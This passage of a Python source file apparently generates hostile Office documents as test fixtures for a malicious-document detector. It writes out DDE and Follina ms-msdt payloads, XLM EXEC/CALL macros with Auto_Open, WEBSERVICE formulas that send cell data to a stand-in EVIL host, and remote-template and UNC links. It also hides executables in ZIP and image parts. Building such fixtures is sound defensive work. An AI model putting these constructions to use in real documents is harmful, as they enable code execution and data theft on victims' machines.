    pkg.parts[name] = pkg.parts[name] + payload
    return pkg.bytes()


def first_media(pkg: Pkg) -> str:
    return next(n for n in pkg.parts if n.startswith("word/media/"))


def docx_jpeg_with_zip() -> bytes:
    pkg = d()
    name = first_media(pkg)
    pkg.parts[name] = jpeg_bytes() + raw_zip([("a.exe", EXE)])
    old = name.rsplit("/", 1)[1]
    new = old.rsplit(".", 1)[0] + ".jpeg"
    pkg.parts[f"word/media/{new}"] = pkg.parts.pop(name)
    pkg.sub("word/_rels/document.xml.rels", f'media/{old}"', f'media/{new}"')
    return pkg.default("jpeg", "image/jpeg").bytes()


def docx_dup_entry(evil_last: bool) -> bytes:
    pkg = d()
    good = pkg.parts["word/document.xml"]
    bad = d().body(f'<w:p><w:fldSimple w:instr="{esc(DDE)}">{run("x")}</w:fldSimple></w:p>').parts["word/document.xml"]
    entries = [e for e in pkg.entries() if e[0] != "word/document.xml"]
    pair = [("word/document.xml", good), ("word/document.xml", bad)]
    return raw_zip(pair + entries if evil_last else pair[::-1] + entries)


def docx_case_dup() -> bytes:
    pkg = d()
    bad = d().body(f'<w:p><w:fldSimple w:instr="{esc(DDE)}">{run("x")}</w:fldSimple></w:p>').parts["word/document.xml"]
    return raw_zip(pkg.entries() + [("word/Document.xml", bad), ("WORD/VBAPROJECT.BIN", vba_project())])


def docx_local_central_mismatch() -> bytes:
    entries = d().put("word/vbaProject.bin", vba_project()).entries()
    index = next(i for i, e in enumerate(entries) if e[0] == "word/vbaProject.bin")
    return raw_zip(entries, central_names={index: "word/media/image5.png"})


def docx_gap() -> bytes:
    return raw_zip(d().entries(), gap_after={0: EXE, 3: b"PK\x03\x04" + EXE})


def docx_trailer() -> bytes:
    return raw_zip(d().entries(), trailer=raw_zip([("run.exe", EXE)], deflate=False))


def docx_prefix() -> bytes:
    return raw_zip(d().entries(), prefix=EXE)


def docx_comment() -> bytes:
    return raw_zip(d().entries(), comment=b"<script>calc</script>" + EXE[:60])


def docx_ct_default_override() -> bytes:
    """The Override calls document.xml a macro main part; a Default calls bin VBA."""
    pkg = d().put("word/vbaProject.bin", vba_project())
    pkg.default("bin", "application/vnd.ms-office.vbaProject")
    pkg.override("/word/vbaProject.bin", "image/png")
    pkg.rel("word/_rels/document.xml.rels", "rIdVba", VBA_REL, "vbaProject.bin")
    return pkg.bytes()


# ---------------------------------------------------------------------------------------------
# hostile builders: Excel
# ---------------------------------------------------------------------------------------------

SHEET = "xl/worksheets/sheet1.xml"
XL_MAIN = f"{CT}.spreadsheetml.sheet.main+xml"


def xlsx_formula(formula: str, cell: str = "D2", extra_cells: str = "") -> bytes:
    pkg = x()
    f = esc(formula).replace(">", "&gt;")
    row = re.search(r"\d+", cell).group(0)  # type: ignore[union-attr]
    pkg.sub(SHEET, "</sheetData>", f'<row r="{int(row) + 10}"><c r="{cell[0]}{int(row) + 10}" t="str"><f>{f}</f><v>0</v></c>{extra_cells}</row></sheetData>')
    return pkg.bytes()


def xlsx_shared_formula() -> bytes:
    pkg = x()
    formula = esc(f'WEBSERVICE("http://{EVIL}/?d="&A2)')
    pkg.sub(SHEET, "</sheetData>",
            f'<row r="20"><c r="C20" t="str"><f t="shared" ref="C20:C22" si="0">{formula}</f><v>0</v></c></row>'
            '<row r="21"><c r="C21" t="str"><f t="shared" si="0"/><v>0</v></c></row></sheetData>')
    return pkg.bytes()


def xlsx_array_formula() -> bytes:
    pkg = x()
    formula = esc('CALL("Kernel32","WinExec","JCJ","calc.exe",0)')
    pkg.sub(SHEET, "</sheetData>", f'<row r="20"><c r="C20"><f t="array" ref="C20">{formula}</f><v>0</v></c></row></sheetData>')
    return pkg.bytes()


def xlsx_defined_name(name: str, value: str, use: bool = False, hidden: bool = False) -> bytes:
    pkg = x()
    wb = pkg.text("xl/workbook.xml")
    attrs = ' hidden="1"' if hidden else ""
    dn = f'<definedName name="{name}"{attrs}>{esc(value)}</definedName>'
    if "<definedNames>" in wb:
        pkg.sub("xl/workbook.xml", "<definedNames>", f"<definedNames>{dn}")
    else:
        pkg.sub("xl/workbook.xml", "</sheets>", f"</sheets><definedNames>{dn}</definedNames>")
    if use:
        pkg.sub(SHEET, "</sheetData>", f'<row r="20"><c r="C20" t="str"><f>{name}</f><v>0</v></c></row></sheetData>')
    return pkg.bytes()


def xlsx_cf(formula: str) -> bytes:
    return x().sub(SHEET, "</sheetData>",
                   f'</sheetData><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
                   f"<formula>{esc(formula)}</formula></cfRule></conditionalFormatting>").bytes()


def xlsx_dv(formula: str) -> bytes:
    return x().sub(SHEET, "</sheetData>",
                   '</sheetData><dataValidations count="1"><dataValidation type="list" sqref="A1">'
                   f"<formula1>{esc(formula)}</formula1></dataValidation></dataValidations>").bytes()


def xlsx_external_link(dde: bool) -> bytes:
    pkg = x()
    if dde:
        link = (
            f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe">'
            '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
        )
        formula = "cmd|' /c calc.exe'!A0"
    else:
        link = (
            f'<externalLink xmlns="{S}" xmlns:r="{R}"><externalBook r:id="rId1"><sheetNames><sheetName val="S"/>'
            '</sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>1</v></cell></row>'
            "</sheetData></sheetDataSet></externalBook></externalLink>"
        )
        formula = "[1]S!A1"
        pkg.rel("xl/externalLinks/_rels/externalLink1.xml.rels", "rId1", f"{OD_REL}/externalLinkPath",
                f"file:///{UNC}\\book.xlsx", external=True)
    pkg.put("xl/externalLinks/externalLink1.xml", link, f"{CT}.spreadsheetml.externalLink+xml")
    pkg.rel("xl/_rels/workbook.xml.rels", "rIdEx", f"{OD_REL}/externalLink", "externalLinks/externalLink1.xml")
    pkg.sub("xl/workbook.xml", "</sheets>", '</sheets><externalReferences><externalReference r:id="rIdEx"/></externalReferences>')
    ensure_r(pkg, "xl/workbook.xml", "workbook")
    pkg.sub(SHEET, "</sheetData>", f'<row r="20"><c r="C20"><f>{esc(formula)}</f><v>1</v></c></row></sheetData>')
    return pkg.bytes()


def xlsx_macrosheet(as_worksheet_type: bool) -> bytes:
    pkg = x()
    ms = (
        f'<xm:macrosheet xmlns="{S}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>'
        '<row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row>'
        "</sheetData></xm:macrosheet>"
    )
    if as_worksheet_type:
        ms = f'<worksheet xmlns="{S}"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></worksheet>'
        pkg.put("xl/worksheets/sheet2.xml", ms, f"{CT}.spreadsheetml.worksheet+xml")
        pkg.rel("xl/_rels/workbook.xml.rels", "rIdM", f"{MS_REL}/xlMacrosheet", "worksheets/sheet2.xml")
    else:
        pkg.put("xl/macrosheets/sheet2.xml", ms, "application/vnd.ms-excel.macrosheet+xml")
        pkg.rel("xl/_rels/workbook.xml.rels", "rIdM", f"{MS_REL}/xlMacrosheet", "macrosheets/sheet2.xml")
    ensure_r(pkg, "xl/workbook.xml", "workbook")
    pkg.sub("xl/workbook.xml", "</sheets>",
            '<sheet name="Macro1" sheetId="9" state="veryHidden" r:id="rIdM"/></sheets>'
            '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>')
    return pkg.bytes()


def xlsx_connections() -> bytes:
    pkg = x().put(
        "xl/connections.xml",
        f'<connections xmlns="{S}"><connection id="1" name="q" type="4" refreshOnLoad="1" refreshedVersion="6">'
        f'<webPr url="http://{EVIL}/data.iqy" htmlTables="1"/></connection>'
        f'<connection id="2" name="db" type="1" refreshOnLoad="1"><dbPr connection="DSN=x;DBQ={esc(UNC)}\\d.mdb" '
        'command="SELECT 1"/></connection></connections>',
        f"{CT}.spreadsheetml.connections+xml",
    )
    return pkg.rel("xl/_rels/workbook.xml.rels", "rIdCn", f"{OD_REL}/connections", "connections.xml").bytes()


def xlsx_hyperlink_rel() -> bytes:
    pkg = x().rel("xl/worksheets/_rels/sheet1.xml.rels", "rIdH", f"{OD_REL}/hyperlink", f"file:///{UNC}\\x.exe", external=True)
    ensure_r(pkg, SHEET, "worksheet")
    return pkg.sub(SHEET, "</sheetData>", '</sheetData><hyperlinks><hyperlink ref="A1" r:id="rIdH"/></hyperlinks>').bytes()


def xlsx_vml_button() -> bytes:
    vml = (
        '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000_s1025" type="#_x0000_t201">'
        '<x:ClientData ObjectType="Button"><x:Anchor>1, 0, 1, 0, 3, 0, 3, 0</x:Anchor>'
        "<x:FmlaMacro>[0]!Auto_Open</x:FmlaMacro></x:ClientData></v:shape></xml>"
    )
    pkg = x().put("xl/drawings/vmlDrawing1.vml", vml).default("vml", f"{CT}.vmlDrawing")
    pkg.rel("xl/worksheets/_rels/sheet1.xml.rels", "rIdV", f"{OD_REL}/vmlDrawing", "../drawings/vmlDrawing1.vml")
    ensure_r(pkg, SHEET, "worksheet")
    text = pkg.text(SHEET)
    tail = "</worksheet>"
    pkg.parts[SHEET] = text.replace(tail, '<legacyDrawing r:id="rIdV"/>' + tail).encode()
    return pkg.bytes()


def xlsx_vml(shape_inner: str, shape_attrs: str = "") -> bytes:
    vml = (
        '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
        f'xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000_s1025" type="#_x0000_t201"{shape_attrs}>'
        f"{shape_inner}</v:shape></xml>"
    )
    pkg = x().put("xl/drawings/vmlDrawing1.vml", vml).default("vml", f"{CT}.vmlDrawing")
    pkg.rel("xl/worksheets/_rels/sheet1.xml.rels", "rIdV", f"{OD_REL}/vmlDrawing", "../drawings/vmlDrawing1.vml")
    ensure_r(pkg, SHEET, "worksheet")
    text = pkg.text(SHEET)
    pkg.parts[SHEET] = text.replace("</worksheet>", '<legacyDrawing r:id="rIdV"/></worksheet>').encode()
    return pkg.bytes()


def docx_vml(shape_inner: str, shape_attrs: str = "") -> bytes:
    return d().body(
        f'<w:p><w:r><w:pict><v:shape id="s9" style="width:40pt;height:40pt"{shape_attrs}>{shape_inner}'
        "</v:shape></w:pict></w:r></w:p>"
    ).bytes()


def xlsx_ole(data: bytes, prog_id: str) -> bytes:
    pkg = x().put("xl/embeddings/oleObject1.bin", data, f"{CT}.oleObject")
    pkg.rel("xl/worksheets/_rels/sheet1.xml.rels", "rIdO", f"{OD_REL}/oleObject", "../embeddings/oleObject1.bin")
    ensure_r(pkg, SHEET, "worksheet")
    text = pkg.text(SHEET)
    pkg.parts[SHEET] = text.replace(
        "</worksheet>", f'<oleObjects><oleObject progId="{prog_id}" shapeId="1025" r:id="rIdO"/></oleObjects></worksheet>'
    ).encode()
    return pkg.bytes()


def xlsx_utf16(formula: str) -> bytes:
    pkg = Pkg(xlsx_formula(formula))
    text = pkg.text(SHEET)
    text = re.sub(r"<\?xml[^>]*\?>", "<?xml version='1.0' encoding='UTF-16'?>", text, count=1)
    if not text.startswith("<?xml"):
        text = "<?xml version='1.0' encoding='UTF-16'?>" + text
    pkg.parts[SHEET] = text.encode("utf-16")
    return pkg.bytes()


def xlsx_doctype() -> bytes:
    pkg = x()
    text = pkg.text("xl/sharedStrings.xml") if "xl/sharedStrings.xml" in pkg.parts else None
    name = "xl/sharedStrings.xml" if text else SHEET
    text = pkg.text(name)
    text = re.sub(r"(<\?xml[^>]*\?>\s*)?", lambda m: (m.group(0) or "") + f'<!DOCTYPE x [<!ENTITY e SYSTEM "http://{EVIL}/e.dtd">]>', text, count=1)
    pkg.parts[name] = text.encode()
    return pkg.bytes()


def xlsm_real(ext_main: str | None = None) -> bytes:
    pkg = Pkg(xlsm_bytes())
    if ext_main:
        pkg.main_type("/xl/workbook.xml", ext_main)
    return pkg.bytes()


def xlsb_fake() -> bytes:
    pkg = Pkg(xlsm_bytes())
    entries = [
        ("[Content_Types].xml", (
            f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CT_NS}"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="bin" '
            'ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
            '<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>').encode()),
        ("_rels/.rels", (f'<Relationships xmlns="{PKG_REL}"><Relationship Id="rId1" Type="{OD_REL}/officeDocument" '
                         'Target="xl/workbook.bin"/></Relationships>').encode()),
        ("xl/_rels/workbook.bin.rels", (f'<Relationships xmlns="{PKG_REL}"><Relationship Id="rId1" Type="{VBA_REL}" '
                                        'Target="vbaProject.bin"/></Relationships>').encode()),
        ("xl/workbook.bin", b"\x83\x01\x00\x80\x01\x00" + b"\x00" * 64),
        ("xl/vbaProject.bin", pkg.parts["xl/vbaProject.bin"]),
    ]
    return raw_zip(entries)


# ---------------------------------------------------------------------------------------------
# hostile builders: PowerPoint
# ---------------------------------------------------------------------------------------------

SLIDE = "ppt/slides/slide1.xml"
SLIDE_RELS = "ppt/slides/_rels/slide1.xml.rels"


def pptx_hlink(target: str | None, action: str | None, tag: str = "a:hlinkClick", show: bool = False) -> bytes:
    pkg = p()
    rid = ""
    if target is not None:
        pkg.rel(SLIDE_RELS, "rIdA", f"{OD_REL}/hyperlink", target, external=True)
        rid = 'r:id="rIdA"'
    else:
        rid = 'r:id=""'
    act = f' action="{esc(action)}"' if action else ""
    text = pkg.text(SLIDE)
    text, n = re.subn(r'(<p:cNvPr id="\d+" name="[^"]*")/>', rf"\1><{tag} {rid}{act}/></p:cNvPr>", text, count=1)
    assert n == 1
    pkg.parts[SLIDE] = text.encode()
    if show:
        pkg.main_type("/ppt/presentation.xml", f"{CT}.presentationml.slideshow.main+xml")
    return pkg.bytes()


def pptx_pic(nvpr_extra: str, rels: list[tuple[str, str, str, bool]]) -> bytes:
    pkg = p().put("ppt/media/image1.png", png_bytes()).default("png", "image/png")
    pkg.rel(SLIDE_RELS, "rIdImg", f"{OD_REL}/image", "../media/image1.png")
    for rid, rtype, target, external in rels:
        pkg.rel(SLIDE_RELS, rid, rtype, target, external)
    pic = (
        '<p:pic><p:nvPicPr><p:cNvPr id="99" name="v"/><p:cNvPicPr/>'
        f"<p:nvPr>{nvpr_extra}</p:nvPr></p:nvPicPr>"
        '<p:blipFill><a:blip r:embed="rIdImg"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>'
        '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="100000" cy="100000"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>'
    )
    return pkg.sub(SLIDE, "</p:spTree>", pic + "</p:spTree>").bytes()


def pptx_linked_blip() -> bytes:
    pkg = Pkg(pptx_pic("", [("rIdL", f"{OD_REL}/image", f"{UNC}\\logo.png", True)]))
    return pkg.sub(SLIDE, '<a:blip r:embed="rIdImg"/>', '<a:blip r:link="rIdL"/>').bytes()


def pptx_sound() -> bytes:
    pkg = p().rel(SLIDE_RELS, "rIdS", f"{OD_REL}/audio", f"{UNC}\\chime.wav", external=True)
    text = pkg.text(SLIDE)
    text = text.replace("</p:sld>", '<p:transition><p:sndAc><p:stSnd><p:snd r:embed="rIdS" name="chime.wav"/>'
                        "</p:stSnd></p:sndAc></p:transition></p:sld>")
    pkg.parts[SLIDE] = text.encode()
    return pkg.bytes()


def pptx_ole_package(with_verb: bool) -> bytes:
    pkg = p().put("ppt/embeddings/oleObject1.bin", ole_package_exe(), f"{CT}.oleObject")
    pkg.put("ppt/media/image1.png", png_bytes()).default("png", "image/png")
    pkg.rel(SLIDE_RELS, "rIdO", f"{OD_REL}/oleObject", "../embeddings/oleObject1.bin")
    pkg.rel(SLIDE_RELS, "rIdImg", f"{OD_REL}/image", "../media/image1.png")
    frame = (
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="77" name="Object 1"/><p:cNvGraphicFramePr/><p:nvPr/>'
        '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></p:xfrm>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
        '<p:oleObj showAsIcon="1" r:id="rIdO" imgW="914400" imgH="914400" progId="Package"><p:embed/>'
        '<p:pic><p:nvPicPr><p:cNvPr id="0" name=""/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
        '<a:blip r:embed="rIdImg"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm>'
        '<a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/>'
        "</a:prstGeom></p:spPr></p:pic></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>"
    )
    pkg.sub(SLIDE, "</p:spTree>", frame + "</p:spTree>")
    if with_verb:
        timing = (
            '<p:timing><p:tnLst><p:par><p:cTn id="1" dur="indefinite" restart="never" nodeType="tmRoot">'
            '<p:childTnLst><p:cmd type="verb" cmd="0"><p:cBhvr><p:cTn id="2" dur="1" fill="hold"/>'
            '<p:tgtEl><p:spTgt spid="77"/></p:tgtEl></p:cBhvr></p:cmd></p:childTnLst></p:cTn></p:par>'
            "</p:tnLst></p:timing>"
        )
        pkg.sub(SLIDE, "</p:sld>", timing + "</p:sld>")
    return pkg.bytes()


def pptx_activex() -> bytes:
    pkg = p().put("ppt/activeX/activeX1.bin", activex_bin(), "application/vnd.ms-office.activeX")
    pkg.put(
        "ppt/activeX/activeX1.xml",
        f'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="{R}" '
        'ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}" ax:persistence="persistStorage" r:id="rId1"/>',
        "application/vnd.ms-office.activeX+xml",
    )
    pkg.rel("ppt/activeX/_rels/activeX1.xml.rels", "rId1", f"{MS_REL}/activeXControlBinary", "activeX1.bin")
    pkg.rel(SLIDE_RELS, "rIdAx", f"{OD_REL}/control", "../activeX/activeX1.xml")
    return pkg.sub(SLIDE, "</p:cSld>",
                   '<p:controls><p:control spid="1025" name="WebBrowser1" r:id="rIdAx" imgW="100" imgH="100"/></p:controls></p:cSld>').bytes()


def pptm_vba(main: str) -> bytes:
    pkg = p().put("ppt/vbaProject.bin", vba_project(), "application/vnd.ms-office.vbaProject")
    pkg.rel("ppt/_rels/presentation.xml.rels", "rIdVba", VBA_REL, "vbaProject.bin")
    return pkg.main_type("/ppt/presentation.xml", main).bytes()


# ---------------------------------------------------------------------------------------------
# the cases
# ---------------------------------------------------------------------------------------------

DOTX_MAIN = f"{CT}.wordprocessingml.template.main+xml"
SEARCH_MS = f"search-ms:query=invoice&crumb=location:\\\\{EVIL}@80\\share&displayname=Invoice"
MSDT = "ms-msdt:/id PCWDiagnostic /skip force /param \"IT_RebrowseForFile=? IT_BrowseForFile=$(calc.exe)\""

HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    # remote templates
    "tmpl-http": ("docx", lambda: docx_template(f"http://{EVIL}/t.dotm")),
    "tmpl-unc": ("docx", lambda: docx_template(f"{UNC}\\t.dotm")),
    "tmpl-file": ("docx", lambda: docx_template(f"file:///{UNC}\\t.dotm")),
    "tmpl-as-hyperlink": ("docx", lambda: docx_template(f"http://{EVIL}/t.dotm", rel_type=f"{OD_REL}/hyperlink")),
    "tmpl-in-dotx": ("dotx", lambda: docx_template(f"https://{EVIL}/t.dotm", main=DOTX_MAIN)),
    "frameset": ("docx", docx_frameset),
    "subdoc-unc": ("docx", docx_subdoc),
    "mailmerge-source": ("docx", docx_mailmerge),
    # Follina and scheme tricks
    "follina-oleobject-mhtml": ("docx", docx_follina),
    "hyperlink-ms-msdt": ("docx", lambda: docx_ext_hyperlink(MSDT)),
    "hyperlink-search-ms": ("docx", lambda: docx_ext_hyperlink(SEARCH_MS)),
    "hyperlink-javascript-hidden": ("docx", lambda: docx_ext_hyperlink("javascript:alert(document.cookie)", hidden=True)),
    "hyperlink-file-exe": ("docx", lambda: docx_ext_hyperlink("file:///C:/Windows/System32/calc.exe")),
    "hyperlink-unc-exe": ("docx", lambda: docx_ext_hyperlink(f"{UNC}\\invoice.exe")),
    "hyperlink-mhtml": ("docx", lambda: docx_ext_hyperlink(f"mhtml:http://{EVIL}/x.mht!x")),
    # altChunk
    "altchunk-html": ("docx", lambda: docx_altchunk("afchunk.htm", "application/xhtml+xml", HTML_CHUNK)),
    "altchunk-mht": ("docx", lambda: docx_altchunk("afchunk.mht", "message/rfc822", MHT_CHUNK)),
    "altchunk-rtf": ("docx", lambda: docx_altchunk("afchunk.rtf", "application/rtf", RTF_CHUNK)),
    # ribbons, add-ins
    "customui-docx": ("docx", lambda: with_custom_ui(d(), False)),
    "customui14-docx": ("docx", lambda: with_custom_ui(d(), True)),
    "customui-xlsx": ("xlsx", lambda: with_custom_ui(x(), True)),
    "customui-pptx": ("pptx", lambda: with_custom_ui(p(), False)),
    "webextension-docx": ("docx", lambda: with_webextension(d(), "word")),
    "webextension-xlsx": ("xlsx", lambda: with_webextension(x(), "xl")),
    "webextension-pptx": ("pptx", lambda: with_webextension(p(), "ppt")),
    # VBA
    "docm-vba": ("docm", docm_vba),
    "docm-vba-named-docx": ("docx", docm_vba),
    "vba-octet-stream": ("docx", docx_vba_octet),
    "vba-as-png": ("docx", docx_vba_as_png),
    "vba-from-root-rels": ("docx", lambda: docx_vba_from("_rels/.rels", "word/vbaProject.bin")),
    "vba-from-settings-rels": ("docx", lambda: docx_vba_from("word/_rels/settings.xml.rels", "vbaProject.bin")),
    "vba-case-override": ("docx", docx_vba_case_override),
    "vba-ct-default-vs-override": ("docx", docx_ct_default_override),
    "xlsm-real": ("xlsm", xlsm_real),
    "xlsm-real-named-xlsx": ("xlsx", lambda: xlsm_real(XL_MAIN)),
    "xlsb-fake": ("xlsb", xlsb_fake),
    "pptm-vba": ("pptm", lambda: pptm_vba("application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")),
    "ppsm-vba-as-ppsx": ("ppsx", lambda: pptm_vba(f"{CT}.presentationml.slideshow.main+xml")),
    # ActiveX and OLE
    "activex-docx": ("docx", docx_activex),
    "activex-pptx": ("pptx", pptx_activex),
    "ole-package-exe-docx": ("docx", lambda: docx_ole(ole_package_exe(), "Package")),
    "ole-equation-docx": ("docx", lambda: docx_ole(ole_equation(), "Equation.3")),
    "ole-package-exe-xlsx": ("xlsx", lambda: xlsx_ole(ole_package_exe(), "Package")),
    "ole-package-exe-pptx": ("pptx", lambda: pptx_ole_package(False)),
    "ole-verb-animation-pptx": ("pptx", lambda: pptx_ole_package(True)),
    # fields
    "ddeauto-fldsimple": ("docx", lambda: docx_fldsimple(DDE)),
    "dde-split-runs": ("docx", lambda: docx_complex(DDE, split=True)),
    "dde-lowercase": ("docx", lambda: docx_complex('  ddeauto   "c:\\\\windows\\\\system32\\\\cmd.exe" "/c calc"')),
    "dde-quote-built": ("docx", docx_quote_built_dde),
    "dde-in-header": ("docx", docx_dde_in_header),
    "dde-in-glossary": ("docx", docx_dde_glossary),
    "dde-in-tracked-deletion": ("docx", lambda: docx_dde_tracked("del")),
    "dde-in-tracked-insertion": ("docx", lambda: docx_dde_tracked("ins")),
    "dde-in-vml-textbox": ("docx", docx_dde_textbox),
    "includetext-unc": ("docx", lambda: docx_complex(f'INCLUDETEXT "{UNC}\\x.docx"'.replace("\\", "\\\\"))),
    "includepicture-unc": ("docx", lambda: docx_fldsimple(f'INCLUDEPICTURE "{UNC}\\p.png" \\d')),
    "hyperlink-field-unc": ("docx", lambda: docx_complex(f'HYPERLINK "{UNC}\\invoice.exe"')),
    "dde-utf16-part": ("docx", docx_utf16_dde),
    # pictures and diagrams pointing out
    "linked-picture-vml-unc": ("docx", docx_linked_picture),
    "linked-blip-file": ("docx", docx_blip_link),
    "smartart-external-link": ("docx", docx_smartart),
    "customxml-script": ("docx", docx_customxml_script),
    # XML tricks
    "doctype-entities": ("docx", docx_doctype),
    "pi-and-comments": ("docx", docx_pi_comment),
    "cdata-script": ("docx", docx_cdata_mz),
    "styles-with-exe-appended": ("docx", lambda: docx_appended(lambda pkg: "word/styles.xml", b"\n" + EXE)),
    "png-with-exe-appended": ("docx", lambda: docx_appended(first_media, EXE)),
    "jpeg-with-zip-appended": ("docx", docx_jpeg_with_zip),
    # ZIP tricks
    "dup-entry-evil-last": ("docx", lambda: docx_dup_entry(True)),
    "dup-entry-evil-first": ("docx", lambda: docx_dup_entry(False)),
    "case-different-parts": ("docx", docx_case_dup),
    "local-central-name-mismatch": ("docx", docx_local_central_mismatch),
    "gap-between-entries": ("docx", docx_gap),
    "data-after-eocd": ("docx", docx_trailer),
    "exe-prepended": ("docx", docx_prefix),
    "zip-comment-payload": ("docx", docx_comment),
    # Excel
    "externallink-unc": ("xlsx", lambda: xlsx_external_link(False)),
    "ddelink": ("xlsx", lambda: xlsx_external_link(True)),
    "dde-formula-cell": ("xlsx", lambda: xlsx_formula("cmd|' /c calc.exe'!A0")),
    "xlm-macrosheet": ("xlsx", lambda: xlsx_macrosheet(False)),
    "xlm-under-worksheet-type": ("xlsx", lambda: xlsx_macrosheet(True)),
    "auto-open-name": ("xlsx", lambda: xlsx_defined_name("Auto_Open", "予算!$A$1")),
    "auto-open-name-upper": ("xlsx", lambda: xlsx_defined_name("AUTO_OPEN_1", "予算!$A$1", hidden=True)),
    "hyperlink-file-formula": ("xlsx", lambda: xlsx_formula(f'HYPERLINK("file:///{UNC}\\x.exe","請求書")')),
    "hyperlink-unc-formula": ("xlsx", lambda: xlsx_formula(f'HYPERLINK("{UNC}\\x.exe")')),
    "hyperlink-char92": ("xlsx", lambda: xlsx_formula(f'HYPERLINK(CHAR(92)&CHAR(92)&"{EVIL}\\s\\x.exe","x")')),
    "hyperlink-cellref": ("xlsx", lambda: xlsx_formula("HYPERLINK(A15,\"x\")", extra_cells="")),
    "hyperlink-concat-http": ("xlsx", lambda: xlsx_formula(f'HYPERLINK("http://"&"{EVIL}/x.exe","x")')),
    "webservice": ("xlsx", lambda: xlsx_formula(f'WEBSERVICE("http://{EVIL}/?d="&B2)')),
    "webservice-xlfn-lower": ("xlsx", lambda: xlsx_formula(f'_xlfn.webservice("http://{EVIL}/")')),
    "filterxml-webservice": ("xlsx", lambda: xlsx_formula(f'_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://{EVIL}/"),"//a")')),
    "call-nested": ("xlsx", lambda: xlsx_formula('SUM(1,CALL("Kernel32","WinExec","JCJ","calc.exe",0))')),
    "register": ("xlsx", lambda: xlsx_formula('REGISTER("Kernel32","WinExec","JCJ","Exec1")')),
    "exec": ("xlsx", lambda: xlsx_formula('EXEC("calc.exe")')),
    "xll-addin": ("xlsx", lambda: xlsx_formula("_xll.EvilFunc(1)")),
    "rtd": ("xlsx", lambda: xlsx_formula('RTD("evil.server",,"x")')),
    "image-remote": ("xlsx", lambda: xlsx_formula(f'_xlfn.IMAGE("http://{EVIL}/x.png")')),
    "shared-formula-webservice": ("xlsx", xlsx_shared_formula),
    "array-formula-call": ("xlsx", xlsx_array_formula),
    "definedname-webservice": ("xlsx", lambda: xlsx_defined_name("data", f'WEBSERVICE("http://{EVIL}/")', use=True)),
    "cf-webservice": ("xlsx", lambda: xlsx_cf(f'LEN(WEBSERVICE("http://{EVIL}/"))>0')),
    "dv-call": ("xlsx", lambda: xlsx_dv('CALL("Kernel32","WinExec","JCJ","calc.exe",0)')),
    "utf16-sheet-webservice": ("xlsx", lambda: xlsx_utf16(f'WEBSERVICE("http://{EVIL}/")')),
    "doctype-xlsx": ("xlsx", xlsx_doctype),
    "connections": ("xlsx", xlsx_connections),
    "hyperlink-rel-file-xlsx": ("xlsx", xlsx_hyperlink_rel),
    "vml-button-macro": ("xlsx", xlsx_vml_button),
    "vml-imagedata-src-unc-xlsx": ("xlsx", lambda: xlsx_vml(f'<v:imagedata src="{UNC}\\a.png" o:title=""/>')),
    "vml-shape-href-file-xlsx": ("xlsx", lambda: xlsx_vml("", f' href="file:///{UNC}\\x.exe" o:button="t"')),
    "vml-textbox-external-book": ("xlsx", lambda: xlsx_vml(
        '<x:ClientData ObjectType="Rect"><x:FmlaTxbx>[1]S!$A$1</x:FmlaTxbx></x:ClientData>')),
    "vml-camera-picture": ("xlsx", lambda: xlsx_vml(
        '<x:ClientData ObjectType="Pict"><x:FmlaPict>\'[book.xlsx]S\'!$A$1:$B$2</x:FmlaPict><x:Camera/></x:ClientData>')),
    "vml-imagedata-src-unc-docx": ("docx", lambda: docx_vml(f'<v:imagedata src="{UNC}\\a.png" o:title=""/>')),
    "vml-imagedata-src-http-docx": ("docx", lambda: docx_vml(f'<v:imagedata src="http://{EVIL}/beacon.png" o:title=""/>')),
    "vml-imagedata-ohref-docx": ("docx", lambda: docx_vml(f'<v:imagedata o:href="file:///{UNC}\\a.png"/>')),
    "vml-shape-href-unc-docx": ("docx", lambda: docx_vml("", f' href="{UNC}\\x.exe" o:button="t"')),
    "vml-fill-src-unc-docx": ("docx", lambda: docx_vml(f'<v:fill type="frame" src="{UNC}\\bg.png"/>')),
    # PowerPoint
    "ppaction-program-click": ("pptx", lambda: pptx_hlink("file:///C:/Windows/System32/calc.exe", "ppaction://program")),
    "ppaction-program-mouseover": ("pptx", lambda: pptx_hlink(
